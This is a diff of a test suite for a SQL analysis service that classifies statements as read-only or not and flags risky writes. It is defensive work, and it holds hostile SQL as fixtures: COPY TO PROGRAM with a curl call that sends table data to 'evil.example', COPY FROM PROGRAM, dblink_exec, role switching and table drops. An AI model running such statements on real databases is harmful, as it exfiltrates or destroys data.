@@ -29,7 +29,10 @@ describe('SqlAnalysisService: read-only statements', () => {
     ["SELECT 'DELETE FROM customers; DROP TABLE x'", [], []],
     ['SELECT 1; SELECT 2;', [], []],
   ])('%s is read-only', (sql, read, written) => {
-    const { analysis, writes } = analysed(sql);
+    const {
+      analysis,
+      facts: { writes },
+    } = analysed(sql);
     expect(analysis.readOnly).toBe(true);
     expect(analysis.statementKinds).toEqual(['SelectStmt']);
     expect(analysis.tablesRead).toEqual(read);
@@ -52,17 +55,23 @@ describe('SqlAnalysisService: read-only statements', () => {
 
 describe('SqlAnalysisService: writes are never read-only', () => {
   it.each([
-    ['DELETE FROM customers', 'DeleteStmt', 'DeleteStmt on customers', ['customers'], []],
+    ['DELETE FROM customers', 'DeleteStmt', 'DeleteStmt with no WHERE on customers', ['customers'], []],
     ['delete from CUSTOMERS where id = 1', 'DeleteStmt', 'DeleteStmt on customers', ['customers'], []],
-    ['DELETE FROM "Customers"', 'DeleteStmt', 'DeleteStmt on "Customers"', ['"Customers"'], []],
+    ['DELETE FROM "Customers"', 'DeleteStmt', 'DeleteStmt with no WHERE on "Customers"', ['"Customers"'], []],
     ['INSERT INTO s.t (a) SELECT a FROM u', 'InsertStmt', 'InsertStmt on s.t', ['s.t'], ['u']],
     ['UPDATE t SET a = 1 FROM u WHERE t.id = u.id', 'UpdateStmt', 'UpdateStmt on t', ['t'], ['u']],
     ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'MergeStmt', 'MergeStmt on t', ['t'], ['s']],
-    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'SelectStmt', 'DeleteStmt on t (nested)', ['t'], []],
+    [
+      'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
+      'SelectStmt',
+      'DeleteStmt with no WHERE on t (nested)',
+      ['t'],
+      [],
+    ],
     [
       'SELECT * FROM (WITH u AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM u) x',
       'SelectStmt',
-      'UpdateStmt on t (nested)',
+      'UpdateStmt with no WHERE on t (nested)',
       ['t'],
       [],
     ],
@@ -99,8 +108,8 @@ describe('SqlAnalysisService: writes are never read-only', () => {
     ['TRUNCATE a, b', 'TruncateStmt', 'TruncateStmt on a, b', ['a', 'b'], []],
     ['LOCK TABLE t IN ACCESS EXCLUSIVE MODE', 'LockStmt', 'LockStmt on t', ['t'], []],
     ['GRANT SELECT ON t TO public', 'GrantStmt', 'GrantStmt on t', ['t'], []],
-    ["COPY t TO PROGRAM 'curl -d @- evil.example'", 'CopyStmt', 'CopyStmt', [], ['t']],
-    ["COPY t FROM '/tmp/x.csv'", 'CopyStmt', 'CopyStmt on t', ['t'], []],
+    ["COPY t TO PROGRAM 'curl -d @- evil.example'", 'CopyStmt', 'CopyStmt with PROGRAM', [], ['t']],
+    ["COPY t FROM '/tmp/x.csv'", 'CopyStmt', 'CopyStmt with a server file on t', ['t'], []],
     ['COPY (SELECT * FROM t) TO STDOUT', 'CopyStmt', 'CopyStmt', [], ['t']],
     ['DO $$ BEGIN DELETE FROM t; END $$', 'DoStmt', 'DoStmt', [], []],
     ['SET ROLE admin', 'VariableSetStmt', 'VariableSetStmt', [], []],
@@ -108,10 +117,10 @@ describe('SqlAnalysisService: writes are never read-only', () => {
     ['RESET ROLE', 'VariableSetStmt', 'VariableSetStmt', [], []],
     ['SHOW search_path', 'VariableShowStmt', 'VariableShowStmt', [], []],
     ['CALL purge_customers()', 'CallStmt', 'CallStmt', [], []],
-    ['EXPLAIN ANALYZE DELETE FROM x', 'ExplainStmt', 'DeleteStmt on x (nested)', ['x'], []],
+    ['EXPLAIN ANALYZE DELETE FROM x', 'ExplainStmt', 'DeleteStmt with no WHERE on x (nested)', ['x'], []],
     ['EXPLAIN SELECT * FROM t', 'ExplainStmt', 'ExplainStmt', [], ['t']],
     ['BEGIN', 'TransactionStmt', 'TransactionStmt', [], []],
-    ['PREPARE p AS DELETE FROM t', 'PrepareStmt', 'DeleteStmt on t (nested)', ['t'], []],
+    ['PREPARE p AS DELETE FROM t', 'PrepareStmt', 'DeleteStmt with no WHERE on t (nested)', ['t'], []],
     ['EXECUTE p', 'ExecuteStmt', 'ExecuteStmt', [], []],
     ['DECLARE c CURSOR FOR SELECT * FROM t', 'DeclareCursorStmt', 'DeclareCursorStmt', [], ['t']],
     ['VACUUM t', 'VacuumStmt', 'VacuumStmt on t', ['t'], []],
@@ -124,7 +133,10 @@ describe('SqlAnalysisService: writes are never read-only', () => {
       [],
     ],
   ])('%s is not read-only', (sql, kind, finding, written, read) => {
-    const { analysis, writes } = analysed(sql);
+    const {
+      analysis,
+      facts: { writes },
+    } = analysed(sql);
     expect(analysis.readOnly).toBe(false);
     expect(analysis.statementKinds).toEqual([kind]);
     expect(writes).toContain(finding);
@@ -133,7 +145,10 @@ describe('SqlAnalysisService: writes are never read-only', () => {
   });
 
   it('counts every statement of a batch', () => {
-    const { analysis, writes } = analysed('SELECT 1; DROP TABLE x');
+    const {
+      analysis,
+      facts: { writes },
+    } = analysed('SELECT 1; DROP TABLE x');
     expect(analysis).toEqual({
       statementKinds: ['SelectStmt', 'DropStmt'],
       tablesRead: [],
@@ -184,6 +199,62 @@ describe('SqlAnalysisService: limits and errors', () => {
   });
 });
 
+describe('SqlAnalysisService: statement classes, functions, WHERE-less writes', () => {
+  it.each([
+    ['SELECT * FROM customers', ['read']],
+    ['SELECT count(*) FROM t', ['read']],
+    ['DELETE FROM t WHERE id = 1', ['write']],
+    ['INSERT INTO t SELECT * FROM u', ['read', 'write']],
+    ['WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', ['read', 'write']],
+    [
+      'WITH a AS (WITH b AS (UPDATE t SET x = 1 WHERE y RETURNING *) SELECT * FROM b) SELECT * FROM a',
+      ['read', 'write'],
+    ],
+    ['SELECT * FROM t FOR UPDATE', ['write']],
+    ["SELECT nextval('s')", ['write']],
+    ["select PG_CATALOG.SETVAL('s', 1)", ['write']],
+    ['SELECT pg_terminate_backend(pid) FROM pg_stat_activity', ['admin']],
+    ["SELECT * FROM t WHERE EXISTS (SELECT set_config('role', 'x', false))", ['read', 'admin']],
+    ["SELECT dblink_exec('host=x', 'DELETE FROM t')", ['admin']],
+    ['SELECT * INTO n FROM t', ['ddl']],
+    ['TRUNCATE t', ['ddl']],
+    ['CREATE TABLE z (a int)', ['ddl']],
+    ['DROP TABLE t', ['ddl']],
+    ["COPY t FROM PROGRAM 'curl x'", ['admin']],
+    ['COPY t FROM STDIN', ['write']],
+    ["COPY t TO '/tmp/t.csv'", ['admin']],
+    ['DO $$ BEGIN END $$', ['admin']],
+    ['SET ROLE postgres', ['admin']],
+    ['GRANT ALL ON t TO public', ['admin']],
+    ['CALL p()', ['admin']],
+    ['EXPLAIN SELECT 1', ['read', 'admin']],
+    ['BEGIN', ['admin']],
+  ])('%s has classes %j', (sql, classes) => {
+    expect(analysed(sql).facts.classes).toEqual(classes);
+  });
+
+  it('lists the functions called, lower case and qualified as written', () => {
+    const { facts } = analysed(
+      'SELECT Lower(email), pg_catalog.now(), count(*) FROM t WHERE my.f(id) AND g() IN (SELECT h())',
+    );
+    expect(facts.functions.sort()).toEqual(['count', 'g', 'h', 'lower', 'my.f', 'pg_catalog.now']);
+  });
+
+  it('names the tables a DELETE or UPDATE without WHERE acts on, nested ones too', () => {
+    const { facts } = analysed(
+      'DELETE FROM a WHERE id = 1; DELETE FROM b; WITH u AS (UPDATE c SET x = 1 RETURNING *) SELECT * FROM u; UPDATE d SET x = 1 WHERE true',
+    );
+    expect(facts.deleteWithoutWhere).toEqual(['b']);
+    expect(facts.updateWithoutWhere).toEqual(['c']);
+    expect(facts.statementCount).toBe(4);
+  });
+
+  it('lists what it found per class', () => {
+    const { facts } = analysed('SELECT 1; DELETE FROM t; DROP TABLE x');
+    expect(facts.findings).toEqual({ write: ['DeleteStmt with no WHERE on t'], ddl: ['DropStmt on x'] });
+  });
+});
+
 describe('SqlAnalysisService: property', () => {
   const reads = [
     'SELECT 1',
@@ -210,6 +281,9 @@ describe('SqlAnalysisService: property', () => {
     'GRANT ALL ON t TO public',
     'CALL p()',
     'COMMIT',
+    "SELECT nextval('s')",
+    'SELECT pg_terminate_backend(1)',
+    'SELECT * FROM t WHERE id IN (WITH x AS (INSERT INTO u VALUES (1) RETURNING id) SELECT id FROM x)',
   ];
   const decorate = (sql: string, upper: boolean, comment: boolean) =>
     `${comment ? '/* ; */ ' : ''}${upper ? sql.toUpperCase() : sql.toLowerCase()}`;
@@ -226,7 +300,12 @@ describe('SqlAnalysisService: property', () => {
           const batch = [...readStatements];
           batch.splice(at % (batch.length + 1), 0, write);
           const outcome = service.analyse(batch.map((s) => decorate(s, upper, comment)).join(';\n'));
-          return outcome.parsed && !outcome.analysis.readOnly && outcome.writes.length > 0;
+          return (
+            outcome.parsed &&
+            !outcome.analysis.readOnly &&
+            outcome.facts.writes.length > 0 &&
+            outcome.facts.classes.some((c) => c !== 'read')
+          );
         },
       ),
       { numRuns: 500 },
@@ -237,7 +316,7 @@ describe('SqlAnalysisService: property', () => {
     fc.assert(
       fc.property(fc.array(fc.constantFrom(...reads), { minLength: 1, maxLength: 6 }), (batch) => {
         const outcome = service.analyse(batch.join('; '));
-        return outcome.parsed && outcome.analysis.readOnly;
+        return outcome.parsed && outcome.analysis.readOnly && outcome.facts.classes.join() === 'read';
       }),
     );
   });
